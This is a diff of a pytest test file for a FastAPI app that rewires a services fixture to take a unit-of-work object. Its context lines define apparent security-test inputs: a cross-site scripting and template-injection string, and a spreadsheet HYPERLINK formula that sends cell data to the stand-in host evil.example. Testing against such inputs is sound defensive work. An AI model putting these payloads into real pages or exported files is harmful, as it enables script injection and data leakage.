@@ -7,6 +7,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from api.app import create_app
+from qa_service.workflows.ports import UnitOfWork
 from tests.fakes.services import FakeServices
 
 ATTACK = '<script>alert(1)</script><img src=x onerror="alert(2)">\'"{{7*7}}'
@@ -14,8 +15,8 @@ FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'
 
 
 @pytest.fixture
-def services() -> FakeServices:
-    return FakeServices()
+def services(unit_of_work: UnitOfWork) -> FakeServices:
+    return FakeServices(unit_of_work=unit_of_work)
 
 
 @pytest.fixture
